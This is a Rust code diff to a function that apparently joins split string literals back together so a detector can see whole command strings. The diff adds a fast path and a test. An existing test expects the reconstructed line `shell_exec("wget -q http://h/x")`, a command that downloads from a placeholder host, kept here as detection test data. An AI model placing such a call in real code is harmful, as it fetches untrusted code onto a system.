@@ -306,7 +306,8 @@ const QUOTING_CALLS: [&str; 6] = [
 /// A URL variable put back as a quoted URL then reads as one command string.
 pub fn joined_code_strings<'t>(text: &'t str, ops: &[u8]) -> std::borrow::Cow<'t, str> {
     let b = text.as_bytes();
-    if !b.iter().any(|c| ops.contains(c)) {
+    // Most lines join nothing (no literal before an operator): no copy.
+    if !literal_joins(b, ops, true) {
         return std::borrow::Cow::Borrowed(text);
     }
     let mut out = String::with_capacity(text.len());
@@ -400,6 +401,11 @@ mod tests {
             ),
             r#"shell_exec("wget -q http://h/x");"#
         );
+        // A line with no literal before an operator is not copied.
+        assert!(matches!(
+            joined_code_strings("a = b + c", b"+"),
+            std::borrow::Cow::Borrowed(_)
+        ));
         // Only a literal joins, and only over the language's operator.
         assert_eq!(j(r#"a = "x" + y + "z""#, b"+"), r#"a = "x" + y + "z""#);
         assert_eq!(j(r#"a = "x" . "z""#, b"+"), r#"a = "x" . "z""#);
